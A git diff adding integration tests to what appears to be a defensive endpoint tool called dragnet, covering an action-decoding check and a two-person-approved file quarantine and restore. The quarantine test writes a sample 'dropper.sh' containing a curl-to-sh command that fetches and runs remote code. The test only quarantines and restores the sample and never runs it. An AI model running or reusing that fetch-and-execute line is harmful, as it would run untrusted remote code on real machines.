@@ -1,5 +1,5 @@
 import { execFileSync } from "node:child_process";
-import { readFileSync, statSync } from "node:fs";
+import { existsSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { connect } from "@nats-io/transport-node";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -198,6 +198,11 @@ describe("the lab", () => {
     expect(show.code).toBe(0);
     const rows = ndjson(show.stdout);
     expect(rows).toHaveLength(3);
+    // For people: what was asked, decoded from the signed action, not just the counts.
+    const table = await dragnet(["--home", home, "action", "show", String(sweep.id)]);
+    expect(table.stdout).toMatch(
+      /^operations:\n {2}1\. file \{"file":\{"searches":\[\{"label":"s1","paths":\[/m,
+    );
     for (const row of rows) expect(row.status).toBe("success");
     const results = await dragnet([
       "--home",
@@ -241,6 +246,28 @@ describe("the lab", () => {
     const status = parse(await cli(["lab", "status"]));
     expect(status.filter((p) => p.state === "running").map((p) => p.role)).toContain("coordinator");
     expect(status.at(-1)).toEqual({ agents: { online: 3 } });
+  });
+
+  it("quarantines a file (two people), lists the vault (one), and restores it as it was (two)", async () => {
+    const dir = tempDir("dragnet-quarantine-");
+    const file = join(dir, "dropper.sh");
+    writeFileSync(file, "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", { mode: 0o755 });
+    const sha = execFileSync("sha256sum", [file], { encoding: "utf8" }).split(" ")[0];
+    const one = 'hostname == "lab-01"';
+    const added = await twoPeople(home, ["quarantine", "add", "-t", one, "--path", file]);
+    expect(added.code).toBe(0);
+    expect(added.rows.map((r) => [r.originalPath, r.sha256])).toEqual([[file, sha]]);
+    expect(existsSync(file)).toBe(false);
+    // Listing changes nothing: alice alone may.
+    const listed = await dragnet(["--home", home, "--json", "quarantine", "list", "-t", one]);
+    expect(listed.code).toBe(0);
+    expect(listed.stderr).not.toMatch(/waits for approval/);
+    const row = ndjson(listed.stdout).find((r) => r.originalPath === file)!;
+    expect(row).toMatchObject({ sha256: sha, restored: "" });
+    const restored = await twoPeople(home, ["quarantine", "restore", "-t", one, "--id", String(row.id)]);
+    expect(restored.code).toBe(0);
+    expect(readFileSync(file, "utf8")).toContain("203.0.113.9");
+    expect((statSync(file).mode & 0o777).toString(8)).toBe("755");
   });
 
   it("restarts its coordinator on the same database, agents still online", async () => {
